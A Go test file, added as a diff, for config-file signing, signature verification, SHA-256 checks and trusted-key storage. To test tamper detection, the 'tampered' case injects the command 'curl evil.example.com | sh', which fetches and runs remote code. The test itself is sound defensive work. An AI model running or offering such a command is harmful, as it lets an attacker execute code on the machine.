@@ -0,0 +1,125 @@
+package remote
+
+import (
+	"errors"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestSignature(t *testing.T) {
+	public, private, err := GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	publicKey, err := ParsePublicKey(public)
+	if err != nil {
+		t.Fatal(err)
+	}
+	privateKey, err := ParsePrivateKey(private)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, other, err := GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	otherKey, err := ParsePrivateKey(other)
+	if err != nil {
+		t.Fatal(err)
+	}
+	keys := []TrustedKey{{Key: publicKey, Name: "platform team"}}
+
+	signed, err := Embed([]byte(testConfig), privateKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resigned, err := Embed(signed, privateKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(resigned) != string(signed) {
+		t.Errorf("signing a signed file again changed it:\n%s", resigned)
+	}
+	tampered := strings.Replace(string(signed), "proxy", "curl evil.example.com | sh; proxy", 1)
+	otherSigned, err := Embed([]byte(testConfig), otherKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name    string
+		content string
+		wantErr string
+	}{
+		{name: "embedded signature", content: string(signed)},
+		{name: "unsigned", content: testConfig, wantErr: ErrUnsigned.Error()},
+		{name: "tampered", content: tampered, wantErr: "doesn't match any trusted key"},
+		{name: "untrusted key", content: string(otherSigned), wantErr: "doesn't match any trusted key"},
+		{name: "content after the signature", content: string(signed) + "    extra: true\n", wantErr: "malformed"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			body, signature, err := SplitSignature([]byte(tt.content))
+			if err == nil {
+				var key TrustedKey
+				key, err = Verify(body, signature, keys)
+				if err == nil && key.Name != "platform team" {
+					t.Errorf("Verify() key = %q, want platform team", key.Name)
+				}
+			}
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Fatalf("verification error = %v", err)
+				}
+				if string(body) != testConfig {
+					t.Errorf("SplitSignature() body = %q, want %q", body, testConfig)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("verification error = %v, want it to contain %q", err, tt.wantErr)
+			}
+		})
+	}
+
+	if _, err := Verify([]byte(testConfig), Sign([]byte(testConfig), privateKey), keys); err != nil {
+		t.Errorf("Verify() of detached signature error = %v", err)
+	}
+	if _, err := Verify([]byte(testConfig), "", keys); !errors.Is(err, ErrUnsigned) {
+		t.Errorf("Verify() without signature error = %v, want %v", err, ErrUnsigned)
+	}
+}
+
+func TestCheckSHA256(t *testing.T) {
+	if err := CheckSHA256([]byte("hello\n"), "5891B5B522D5DF086D0FF0B110FBD9D21BB4FC7163AF34D08286A2E846F6BE03"); err != nil {
+		t.Errorf("CheckSHA256() error = %v", err)
+	}
+	if err := CheckSHA256([]byte("hello!\n"), "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03"); err == nil {
+		t.Errorf("CheckSHA256() accepted a changed file")
+	}
+}
+
+func TestTrustedKeys(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "tbm", "trusted_keys")
+	public, _, err := GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	key, err := ParsePublicKey(public)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := 0; i < 2; i++ {
+		if err := AddTrustedKey(path, TrustedKey{Key: key, Name: "platform team"}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	keys, err := LoadTrustedKeys(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(keys) != 1 || !keys[0].Key.Equal(key) || keys[0].Name != "platform team" {
+		t.Errorf("LoadTrustedKeys() = %+v, want the key once", keys)
+	}
+}